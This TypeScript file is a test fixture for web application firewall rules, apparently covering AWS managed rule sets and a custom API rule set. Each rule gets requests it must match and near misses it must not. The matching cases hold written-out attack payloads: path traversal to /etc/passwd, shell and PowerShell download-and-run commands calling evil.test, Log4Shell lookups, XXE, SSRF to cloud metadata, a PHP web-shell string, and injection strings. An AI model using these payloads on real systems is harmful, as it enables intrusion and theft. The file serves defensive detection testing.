import { gzipSync } from 'node:zlib';
import { ask, type CaseRequest, get, having, post } from '../../../src/guard/decide/waf/cases.ts';

/** Requests that a rule must match, and near misses that it must not. */
export interface RuleCases {
  readonly hits: readonly CaseRequest[];
  readonly misses: readonly CaseRequest[];
}

const rule = (hits: readonly CaseRequest[], misses: readonly CaseRequest[]): RuleCases => ({ hits, misses });
const at = (target: string, ...headers: readonly string[]): CaseRequest => ask({ target, headers });
const json = (body: unknown): CaseRequest =>
  ask({ method: 'POST', headers: ['Content-Type', 'application/json'], body: JSON.stringify(body) });
const form = (body: string, ...headers: readonly string[]): CaseRequest =>
  ask({ method: 'POST', headers: ['Content-Type', 'application/x-www-form-urlencoded', ...headers], body });
const multipart = (head: string, text: string): CaseRequest =>
  ask({
    method: 'POST',
    headers: ['Content-Type', 'multipart/form-data; boundary=b'],
    body: `--b\r\n${head}\r\n\r\n${text}\r\n--b--\r\n`,
  });
/** Compressed, and nothing says so. */
const packed = (text: string): CaseRequest => post(gzipSync(text).toString('latin1'));
const query = (text: string): CaseRequest => get(`/?x=${encodeURIComponent(text)}`);
const graphql = (text: string): CaseRequest => json({ query: text });
const times = (n: number, make: (i: number) => string, glue = ' '): string =>
  Array.from({ length: n }, (_, i) => make(i)).join(glue);
const site = ['Host', 'shop.example'] as const;

const aws = {
  AWSManagedRulesAdminProtectionRuleSet: {
    AdminProtection_URIPATH: rule(
      [
        get('/phpmyadmin/index.php'),
        get('/sqlmanager'),
        get('/Admin'),
        get('/wp-admin/'),
        get('/%61dmin/users'),
      ],
      [get('/administer-medicine'), get('/badmin/x'), get('/users/admin@example.com'), get('/?path=/admin')],
    ),
  },
  AWSManagedRulesLinuxRuleSet: {
    LFI_URIPATH: rule(
      [get('/a/..%2f..%2f..%2fetc%2fpasswd'), get('/files/%2Fproc%2Fversion')],
      [get('/etc-and-more'), get('/C:%5Cwindows%5Cwin.ini')],
    ),
    LFI_QUERYSTRING: rule(
      [get('/?f=/proc/version'), get('/?f=../../../../etc/shadow'), get('/?f=L2V0Yy9wYXNzd2Q=')],
      [get('/?f=C:\\windows\\win.ini'), get('/?f=/products/etc'), post('f=/proc/version')],
    ),
    LFI_HEADER: rule(
      [having('X-File', '/etc/passwd'), having('Cookie', 'lang=../../../../etc/passwd')],
      [having('X-File', 'etcetera/passwords'), having('Referer', 'https://shop.example/a/b')],
    ),
  },
  AWSManagedRulesUnixRuleSet: {
    UNIXShellCommandsVariables_QUERYSTRING: rule(
      [query(';id'), query('echo $HOME'), query('$(whoami)'), query('$PATH'), query('/etc/passwd')],
      [query('costs $40 & more'), query('& type C:\\boot.ini'), query('$HOMELAND')],
    ),
    UNIXShellCommandsVariables_BODY: rule(
      [json({ host: '127.0.0.1; cat /etc/passwd' }), form('h=`id`'), packed('h=`id`')],
      [json({ text: 'cats; dogs | birds' }), json({ a: '$name' })],
    ),
    UNIXShellCommandsVariables_HEADER: rule(
      [having('User-Agent', '() { :; }; /bin/bash -c id'), having('Cookie', 'a=$(id)')],
      [having('User-Agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:127.0)'), having('Cookie', 'a=$5')],
    ),
  },
  AWSManagedRulesWindowsRuleSet: {
    WindowsShellCommands_HEADER: rule(
      [having('X-Host', '127.0.0.1 & type C:\\boot.ini'), having('Cookie', 'a=|| dir C:\\')],
      [having('X-Host', 'mine & yours'), having('X-Type', 'dir')],
    ),
    WindowsShellCommands_QUERYARGUMENTS: rule(
      [query('||nslookup evil.test'), query('& cmd /c dir')],
      [query(';cat /etc/hosts'), query('command and conquer')],
    ),
    WindowsShellCommands_QUERYSTRING: rule([query('| net user')], [query('growth & net income')]),
    WindowsShellCommands_URIPATH: rule(
      [
        get('/ping/127.0.0.1%26cmd%20%2Fc%20dir'),
        get('/scripts/..%255c..%255cwinnt/%26%20cmd.exe%20%2Fc%20dir'),
      ],
      [get('/cmd/run'), get('/a%20%26%20b')],
    ),
    WindowsShellCommands_BODY: rule(
      [json({ host: '8.8.8.8 && ipconfig /all' })],
      [json({ text: 'Research && development' })],
    ),
    PowerShellCommands_COOKIE: rule(
      [having('Cookie', 'a=powershell -enc SQBFAFgA'), having('Cookie', 'a=Invoke-Expression $x')],
      [having('Cookie', 'shell=power')],
    ),
    PowerShellCommands_QUERYARGUMENTS: rule(
      [query('IEX(New-Object Net.WebClient).DownloadString("http://evil.test/a.ps1")')],
      [query('Get-Started with us'), query('cmd /c dir')],
    ),
    PowerShellCommands_BODY: rule(
      [json({ c: 'powershell.exe -nop -w hidden -c "Invoke-WebRequest http://evil.test"' })],
      [json({ c: 'Learn PowerShell in a day' })],
    ),
  },
  AWSManagedRulesPHPRuleSet: {
    PHPHighRiskMethodsVariables_HEADER: rule(
      [
        having('User-Agent', '<?php system($_GET["c"]); ?>'),
        having('Cookie', 'a=O:8:"stdClass":1:{s:1:"a";i:1;}'),
      ],
      [having('User-Agent', 'GuzzleHttp/7 PHP/8.3'), having('X-Code', 'require("child_process").exec("id")')],
    ),
    PHPHighRiskMethodsVariables_QUERYSTRING: rule(
      [
        query('fsockopen("evil.test",80)'),
        query('$_GET["x"]'),
        query('php://filter/convert.base64-encode/resource=index.php'),
      ],
      [query('phpinfo'), query('__import__("os").system("id")'), query('/etc/passwd')],
    ),
    PHPHighRiskMethodsVariables_BODY: rule(
      [form('a=phpinfo()'), json({ a: "eval(base64_decode('cGhwaW5mbygpOw=='))" })],
      [json({ a: 'system (noun): a set of things' })],
    ),
    PHPHighRiskMethodsVariables_URIPATH: rule([get('/a/phpinfo()')], [get('/phpinfo')]),
  },
  AWSManagedRulesWordPressRuleSet: {
    WordPressExploitableCommands_QUERYSTRING: rule(
      [get('/?do-reset-wordpress=1'), get('/?action=revslider_show_image&img=x'), get('/?author=1')],
      [get('/?action=show'), get('/?author=jane'), get('/?q=reset+wordpress')],
    ),
    WordPressExploitablePaths_URIPATH: rule(
      [get('/xmlrpc.php'), get('/blog/wp-config.php.bak'), get('/wp-content/uploads/2024/x.php')],
      [get('/wp-json/wp/v2/posts'), get('/wp-content/uploads/2024/x.png'), get('/about-xmlrpc')],
    ),
  },
};

const api: Readonly<Record<string, RuleCases>> = {
  HostOverride: rule(
    [having(...site, 'X-Forwarded-Host', 'evil.test'), having(...site, 'X-Host', 'evil.test')],
    [having(...site, 'X-Forwarded-Host', 'shop.example:443'), having(...site)],
  ),
  UnusualMethod: rule([ask({ method: 'JEFF' })], [ask({ method: 'PURGE' }), ask({ method: 'PATCH' })]),
  RequestSmuggling: rule(
    [
      having('Transfer_Encoding', 'chunked'),
      having('Upgrade', 'h2c'),
      ask({ method: 'POST', body: '0\r\n\r\nGET /admin HTTP/1.1\r\nHost: x\r\n\r\n' }),
      get('/a%20HTTP/1.1%0d%0aX:%20y'),
    ],
    [having('Upgrade', 'websocket'), post('a log line: GET / HTTP/1.1 200'), having('X_Encoding', 'chunked')],
  ),
  ContentCodingAbuse: rule(
    [
      form('a=1', 'Content-Encoding', 'gzip'),
      form('a=1', 'Content-Encoding', 'gzip, br, deflate'),
      form('\u00ff\u00fe', 'Content-Encoding', 'compress'),
      ask({
        method: 'POST',
        body: '\u00a5\u0081',
        headers: ['Content-Type', 'text/plain; charset=x-unheard'],
      }),
      // `<?xm` in EBCDIC.
      ask({
        method: 'POST',
        body: '\u004c\u006f\u00a7\u0094\u0093',
        headers: ['Content-Type', 'application/xml'],
      }),
    ],
    [
      form('a=1', 'Content-Encoding', 'identity'),
      form('a=1', 'Content-Encoding', 'aws-chunked'),
      // Lines of JSON, as browsers send them: no JSON, and nothing hides them.
      ask({
        method: 'POST',
        body: '{"a":1}\n{"b":2}\n',
        headers: ['Content-Type', 'text/plain;charset=UTF-8'],
      }),
    ],
  ),
  HopByHopHeaders: rule(
    [having('Connection', 'close, X-Real-IP')],
    [having('Connection', 'keep-alive, Upgrade'), having('Connection', 'close')],
  ),
  HostHeaderAttack: rule(
    [having('Host', "shop.example'--"), having(...site, 'X-Forwarded-Host', 'a"><script>')],
    [having('Host', 'shop.example:8443'), having(...site, 'X-Forwarded-Proto', 'https, http')],
  ),
  SpoofedInternalHeaders: rule(
    [
      at('/', 'X-Original-URL', '/admin'),
      having('X-Originating-IP', '127.0.0.1'),
      having('x-amzn-waf-seen', '1'),
      having('x-middleware-subrequest', 'middleware'),
    ],
    [at('/a', 'X-Original-URL', '/a'), having('X-Forwarded-For', '203.0.113.9, 10.0.0.1')],
  ),
  MethodOverride: rule(
    [having('X-HTTP-Method-Override', 'DELETE'), get('/?_method=PUT'), ask({ method: 'TRACK' })],
    [ask({ method: 'POST', headers: ['X-HTTP-Method-Override', 'PATCH'] }), get('/?method=PUT')],
  ),
  SuspiciousContentType: rule(
    [
      having('Content-Type', 'application/json; charset=ibm037'),
      having('Content-Type', 'multipart/form-data'),
      multipart('Content-Disposition: form-data; name="_charset_"', 'UTF-7'),
      multipart('Content-Disposition: form-data; name="_charset_"', ' utf-16le '),
      form('_charset_=iso-2022-jp&a=%3Cscr%1b(Bipt>'),
      multipart(
        'Content-Disposition: form-data; name="a"\r\nContent-Type: text/plain; charset="ibm500"',
        'x',
      ),
      form('%5fcharset_=utf-7&a=b'),
      get('/?_charset_=IBM037'),
    ],
    [
      multipart('Content-Disposition: form-data; name="_charset_"', 'iso-2022-jp'),
      multipart('Content-Disposition: form-data; name="charset"', 'utf-7'),
      multipart(
        'Content-Disposition: form-data; name="a"; filename="a.csv"\r\nContent-Type: text/csv; charset=utf-16',
        'x',
      ),
      form('_charset_=UTF-8&a=utf-7'),
      having('Content-Type', 'application/json; charset=utf-8'),
      having('Content-Type', 'multipart/form-data; boundary=a'),
    ],
  ),
  RangeAbuse: rule(
    [having('Range', 'bytes=0-,0-,0-,0-'), having('Range', 'bytes=0-18446744073709551615')],
    [having('Range', 'bytes=0-99,200-299'), having('Range', 'bytes=-500')],
  ),
  ConflictingHeaders: rule(
    [having('Authorization', 'a', 'Authorization', 'b'), having('X-Tenant', 'a', 'X_Tenant', 'b')],
    [having('Accept', 'a', 'Accept', 'b'), having('Origin', 'a', 'Origin', 'a')],
  ),
  EvasiveEncoding: rule(
    [get('/?x=%2561%256c'), get('/?x=%c0%af'), having('Cookie', 'a=%u0027')],
    [get('/?x=%252F'), get('/?x=%E2%82%AC')],
  ),
  NullBytes: rule([get('/?f=a.php%00.png'), form('f=a%00')], [get('/?f=a%20'), form('f=a%0a')]),
  OverlongArguments: rule([get(`/?${'a&'.repeat(1_100)}`)], [get(`/?${'a&'.repeat(500)}`)]),
  GraphQLIntrospection: rule(
    [
      graphql('{ __schema { types { name } } }'),
      get(`/?query=${encodeURIComponent('{__type(name:"A"){name}}')}`),
    ],
    [graphql('{ me { __typename } }'), query('__schema')],
  ),
  GraphQLDepth: rule(
    [
      graphql(`{ ${'a { b { c { '.repeat(5)} id ${' } } }'.repeat(5)} }`),
      ask({
        method: 'POST',
        headers: ['Content-Type', 'application/graphql'],
        body: `{ ${'x { y { '.repeat(8)} id ${'} }'.repeat(8)} }`,
      }),
      // Longer than is looked at: what is there is deep enough.
      graphql(`{ ${'a { b { c { '.repeat(2_000)} id ${' } } }'.repeat(2_000)} }`),
    ],
    [graphql('{ a { b { c { d { e } } } } }'), json({ query: 'x {'.repeat(30) })],
  ),
  GraphQLAliases: rule(
    [graphql(`{ ${times(40, (i) => `a${i}: me { id }`)} }`)],
    [graphql(`{ ${times(20, (i) => `a${i}: me { id }`)} }`)],
  ),
  GraphQLBatching: rule(
    [json(Array.from({ length: 15 }, () => ({ query: '{ me { id } }' })))],
    [
      json(Array.from({ length: 5 }, () => ({ query: '{ me { id } }' }))),
      json(Array.from({ length: 15 }, () => ({ query: 'red shoes' }))),
    ],
  ),
  GraphQLDirectives: rule([graphql(`{ a ${'@b '.repeat(60)} }`)], [graphql('{ a @include(if: true) @b }')]),
  GraphQLDuplication: rule([graphql(`{ ${'a '.repeat(60)} }`)], [graphql('{ a b a }')]),
  GraphQLCircularFragments: rule(
    [graphql('{ ...A } fragment A on T { b { ...A } }')],
    [graphql('{ ...A ...A } fragment A on T { b }')],
  ),
  GraphQLComplexity: rule(
    [
      graphql(
        `{ ...F0 } ${times(8, (i) => `fragment F${i} on T { ...F${i + 1} a${i} { ...F${i + 1} } b { ...F${i + 1} } }`)} fragment F8 on T { id }`,
      ),
    ],
    [graphql('{ ...A b { ...A } } fragment A on T { id name }')],
  ),
  GraphQLVariables: rule(
    [graphql(`query(${times(300, (i) => `$v${i}: Int`)}) { a }`)],
    [graphql(`query(${times(90, (i) => `$v${i}: Int`)}) { a }`)],
  ),
  GraphQLSecretGuessing: rule(
    [
      graphql('{ users(where: { password: { _regex: "^a" } }) { id } }'),
      graphql('{ users(where: { api_key_starts_with: "a" }) { id } }'),
      get(
        `/graphql?query=${encodeURIComponent('{ user(where: { resetToken: { startsWith: "a" } }) { id } }')}`,
      ),
      json({
        query: 'query($where: W) { users(where: $where) { id } }',
        variables: { where: { password_hash: { _like: '$2b$%' } } },
      }),
    ],
    [
      graphql('{ users(where: { name: { _ilike: "%ann%" }, email: { _regex: "@" } }) { id } }'),
      graphql('mutation { login(input: { password: "a", token: "b" }) { id } }'),
      json({ password: { _regex: '^a' } }),
      json({
        query: 'query($w: W) { tokens(where: $w) { id } }',
        variables: { w: { token: { symbol_gt: 'a' } } },
      }),
    ],
  ),
  ExposedConsoles: rule([get('/phpmyadmin/'), get('/server-status')], [get('/server-status-page')]),
  ScannerUserAgent: rule(
    [
      having('User-Agent', 'sqlmap/1.8#stable (https://sqlmap.org)'),
      having('User-Agent', 'Mozilla/5.0 (compatible; Nikto)'),
    ],
    [having('User-Agent', 'curl/8.5.0'), having('User-Agent', 'HydraClient/2.0')],
  ),
  ScannerHeaders: rule(
    [having('Acunetix-Aspect', 'enabled'), having('Referer', 'http://abc.oast.fun/')],
    [having('X-Scanner', 'warehouse-7'), having('Origin', 'https://toast.fun')],
  ),
  ScannerProbes: rule(
    [get('/.env'), get('/.git/config'), get('/backup.zip'), get('/%2eenv')],
    [get('/.well-known/security.txt'), get('/files/backup.zip'), get('/env')],
  ),
  SessionIdentifierInArguments: rule(
    [get('/?PHPSESSID=abc'), get('/a;jsessionid=1A2B'), form('JSESSIONID=1')],
    [get('/?sid=7'), having('Cookie', 'PHPSESSID=abc')],
  ),
  SessionFixation: rule(
    [
      at('/?PHPSESSID=abc', ...site, 'Referer', 'https://evil.test/'),
      query('<script>document.cookie="JSESSIONID=1"</script>'),
      json({ a: '<meta http-equiv="Set-Cookie" content="sid=1">' }),
    ],
    [at('/?PHPSESSID=abc', ...site, 'Referer', 'https://www.shop.example/'), query('document.cookie')],
  ),
  UnsignedToken: rule(
    [
      having('Authorization', 'Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.'),
      having('Authorization', 'bearer eyJhbGciOiJuT25FIiwidHlwIjoiSldUIn0.eyJyb2xlIjoiYWRtaW4ifQ.'),
      having('Cookie', 'session=eyJ0eXAiOiJKV1QiLCAiYWxnIiA6ICJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.YQ'),
      get('/?token=eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.'),
    ],
    [
      having('Authorization', 'Bearer eyJhbGciOiJSUzI1NiJ9.eyJhbGciOiJub25lIn0.YQ'),
      having('Authorization', 'Bearer none.of.this'),
      having('Cookie', 'a=eyJhbGciOiJub25lIn0.x'),
      json({ token: 'eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiJ9.' }),
    ],
  ),
  ExternalRedirect: rule(
    [at('/?next=https://evil.test/a', ...site)],
    [
      at('/?next=https://shop.example/a', ...site),
      at('/?redirect_uri=https://app.test/cb', ...site),
      get('/?next=/a'),
    ],
  ),
  OpenRedirect: rule(
    [
      at('/?next=//evil.test', ...site),
      at('/?returnUrl=/%5Cevil.test', ...site),
      at('/?next=https:evil.test', ...site),
      json({ redirectTo: 'https://shop.example@evil.test/' }),
      at('/?next=https://shop.example.evil.test/', ...site),
      at('/?next=https://shop.example-evil.test', ...site),
      at('/?next=https://sh%D0%BEp.example/', ...site),
      at('/?next=https://xn--shp-ted.example/', ...site),
      at('/?next=https://evil.test/shop.example', ...site),
      at('/?next=https://evil.test%5C.shop.example', ...site),
      at('/?next=https://evil.test%252f.shop.example', ...site),
      at('/?next=https://evil%E3%80%82test', ...site),
      at('/?next=/.//evil.test', ...site),
      at('/?next=/;x//evil.test', ...site),
      at('/?next=:443@evil.test', ...site),
      at('/?u=%2Flogin%3Fnext%3D%2F%2Fevil.test', ...site),
    ],
    [
      at('/?next=//shop.example/a', ...site),
      at('/?next=/a//b', ...site),
      at('/?q=//evil.test', ...site),
      at('/?next=https://partner.test/?from=shop.example.com', ...site),
      at('/?next=https://shop.example.de/', ...site),
      at('/?url=https://shop.example.cdn.test/logo.png', ...site),
      at('/?next=https://m%C3%BCnchen.example/', ...site),
      at('/?next=https://anna@shop.example/', ...site),
      at('/?next=../a.html', ...site),
      at('/?next=./b/c.d', ...site),
    ],
  ),
  JNDILookup: rule(
    [query('${jndi:ldap://evil.test/a}'), having('User-Agent', '${${lower:j}ndi:dns://evil.test}')],
    [query('${name}'), query('jndi:ldap')],
  ),
  TemplateInjection: rule(
    [query('{{7*7}}'), json({ n: '${T(java.lang.Runtime).getRuntime()}' })],
    [query('{{name}}')],
  ),
  CommandInjection: rule(
    [
      query(';cat /etc/passwd'),
      json({ h: '$(whoami)' }),
      having('User-Agent', '() { :; }; /bin/id'),
      get('/?host=x%0aid'),
      get('/?ip=router%0d%0Aenv%0a'),
      get('/?branch=main%0a%20id%20%23'),
      json({ ping: { host: 'localhost\nhostname' } }),
      query('8.8.8.8\nid\n'),
      multipart('Content-Disposition: form-data; name="f"; filename="a;id;.png"', 'x'),
    ],
    [
      query('cats; dogs'),
      multipart('Content-Disposition: form-data; name="f"; filename="tea; milk & sugar.png"', 'x'),
      json({ t: 'R&D; sales | support' }),
      query('x\nid'),
      json({ columns: 'name\nid' }),
      json({ host: 'anna\nbert\nid' }),
      json({ command: 'Please run the job\ntop' }),
      get('/?file=notes%0Aideas'),
    ],
  ),
  CodeInjection: rule(
    [query('require("child_process").exec("id")'), query('__import__("os").system("id")')],
    [query('require("lodash")'), query('call system support')],
  ),
  UnsafeDeserialization: rule(
    [
      json({ s: 'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==' }),
      query('O:8:"Exploit1":1:{s:1:"a";i:1;}'),
    ],
    [json({ s: 'cm9vdCBiZWVy' }), query('a:1:{i:0;i:1;}')],
  ),
  NoSQLInjection: rule(
    [
      json({ user: { $ne: null }, pass: { $gt: '' } }),
      get('/?user[$ne]=x'),
      query("' || '1'=='1"),
      json({ pin: { $gt: 0 } }),
      json({ login: { $in: ['admin', 'root'] } }),
      json({ a: { $in: [{ $ne: 1 }] } }),
      json({ password: { $ne: true } }),
    ],
    [
      json({ price: '$5' }),
      get('/?filter[name]=x'),
      json({ price: { $gte: 10, $lte: 20 }, status: { $in: ['open', 'paid'] } }),
      json({ $and: [{ price: { $gt: 5 } }, { deleted: { $ne: true } }] }),
    ],
  ),
  LDAPInjection: rule(
    [query('*)(uid=*))(|(uid=*'), query('admin)(&)')],
    [query('(see below)'), query('f(x)=(y)')],
  ),
  XPathInjection: rule([query("' or count(/*)=1 or 'a'='b")], [query('count(items) = 1')]),
  XMLExternalEntity: rule(
    [post('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>')],
    [post('<?xml version="1.0"?><!DOCTYPE html><a>b</a>')],
  ),
  ServerSideInclude: rule([query('<!--#exec cmd="id" -->')], [query('<!-- a comment -->')]),
  PrototypePollution: rule(
    [
      json({ constructor: { prototype: { admin: true } } }),
      ask({
        target: '/',
        headers: ['Content-Type', 'application/xml'],
        body: '<a><__proto__><b>1</b></__proto__></a>',
      }),
      ask({ target: '/', headers: ['Content-Type', 'application/json'], body: '{"\\x5f_proto__":{"b":1}}' }),
      get('/?__proto__[admin]=1'),
      post('{"__proto__":{"a":1}}'),
    ],
    [json({ prototype: 'v2' }), get('/?proto=http')],
  ),
  MailHeaderInjection: rule([form('to=a%40b.test%0aBcc:%20c%40d.test')], [form('to=a%40b.test%0aThanks')]),
  ResponseSplitting: rule([get('/?l=en%0d%0aSet-Cookie:%20a=b')], [get('/?l=one%0d%0atwo')]),
  ServerSideRequestForgery: rule(
    [
      json({ url: 'http://169.254.169.254/latest/meta-data/' }),
      query('gopher://127.0.0.1:6379/_x'),
      query('http://0x7f000001/'),
    ],
    [json({ url: 'https://example.com/a' }), having('X-Forwarded-For', '169.254.169.254')],
  ),
  RemoteFileInclusion: rule(
    [get('/?page=http://198.51.100.7/shell.txt?')],
    [get('/?page=http://example.com/a.html')],
  ),
  PathTraversalInHeaders: rule(
    [having('X-Template', '../../../../etc/passwd'), having('Cookie', 'lang=/etc/passwd')],
    [having('Referer', 'https://shop.example/a/../b'), having('Cookie', 'path=/account')],
  ),
  CrossSiteScriptingInHeaders: rule(
    [
      having('Referer', 'https://a.test/?<script>alert(1)</script>'),
      having('X-Name', '<img src=x onerror=alert(1)>'),
    ],
    [having('Accept', 'text/html;q=0.9,*/*'), having('X-Formula', '1 < 2 > 0')],
  ),
};

/** By the group and the rule. */
export const ruleCases: Readonly<Record<string, Readonly<Record<string, RuleCases>>>> = {
  ...aws,
  PortcullisApiRuleSet: api,
};
